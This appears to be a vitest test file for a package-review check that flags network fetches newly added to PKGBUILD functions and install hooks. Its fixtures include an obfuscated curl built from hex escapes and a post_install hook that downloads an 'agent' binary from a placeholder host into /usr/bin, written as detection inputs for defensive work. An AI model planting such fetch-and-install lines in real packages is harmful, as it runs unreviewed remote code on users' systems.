import { describe, expect, it } from 'vitest';
import { checkNetworkFetch } from './check-network.js';
import { brief, lineOf, riskInput } from './fixtures/helpers.js';
import { PYTHON_PKG, WIDGET_GIT, fancytool, slinkyBin } from './fixtures/packages.js';

const prev = fancytool();

describe('network-fetch', () => {
  it('flags pkgver() that starts fetching in an update (high), also through an obfuscated curl', () => {
    const before = { ...WIDGET_GIT };
    for (const line of [
      'curl -s https://api.github.com/repos/widgets/widget/releases/latest | jq -r .tag_name',
      '"$(printf \'\\x63\\x75\\x72\\x6c\')" -s https://x.y/v',
    ]) {
      const cand = {
        ...WIDGET_GIT,
        PKGBUILD: WIDGET_GIT.PKGBUILD.replace('  cd "$_pkgname"\n  git describe', `  cd "$_pkgname"\n  ${line}\n  git describe`),
      };
      const flags = checkNetworkFetch(riskInput(cand, before));
      expect(brief(flags), line).toEqual([{ check: 'network-fetch', severity: 'high', file: 'PKGBUILD', line: lineOf(cand.PKGBUILD, line) }]);
      expect(flags[0]!.reason).toContain('in pkgver(), which did not fetch before');
    }
  });

  it('flags fetching at install time and at the top level (high)', () => {
    const cand = {
      ...fancytool({ topExtra: ['install=f.install'] }),
      'f.install': 'post_install() {\n  wget -q https://x.y/agent -O /usr/bin/agent\n}\n',
    };
    expect(brief(checkNetworkFetch(riskInput(cand, prev)))).toEqual([{ check: 'network-fetch', severity: 'high', file: 'f.install', line: 2 }]);
    const top = fancytool({ topExtra: ['_v=$(curl -s https://x.y/latest)'] });
    expect(brief(checkNetworkFetch(riskInput(top, prev)))).toEqual([
      { check: 'network-fetch', severity: 'high', file: 'PKGBUILD', line: lineOf(top.PKGBUILD, '_v=$(curl') },
    ]);
  });

  it('flags downloads in build functions as medium, saying when the function did not fetch before', () => {
    for (const cmd of ['curl -L -o extra.tar.gz https://x.y/extra.tar.gz', 'git clone https://x.y/repo.git', 'aria2c https://x.y/big.iso']) {
      const cand = fancytool({ buildExtra: [cmd] });
      const flags = checkNetworkFetch(riskInput(cand, prev));
      expect(brief(flags), cmd).toEqual([{ check: 'network-fetch', severity: 'medium', file: 'PKGBUILD', line: lineOf(cand.PKGBUILD, cmd) }]);
      expect(flags[0]!.reason).toContain('in build(), which did not fetch before');
    }
  });

  it('accepts local submodules, messages and ordinary packages', () => {
    const submodules = fancytool({
      buildExtra: ['git submodule init', 'git config submodule.vendor/lib.url "$srcdir/lib"', 'git -c protocol.file.allow=always submodule update'],
    });
    expect(checkNetworkFetch(riskInput(submodules, prev))).toEqual([]);
    expect(checkNetworkFetch(riskInput(fancytool({ buildExtra: ['echo "or download it: curl -O https://x.y/f"'] }), prev))).toEqual([]);
    for (const files of [fancytool(), slinkyBin(), WIDGET_GIT, PYTHON_PKG]) expect(checkNetworkFetch(riskInput(files))).toEqual([]);
  });
});
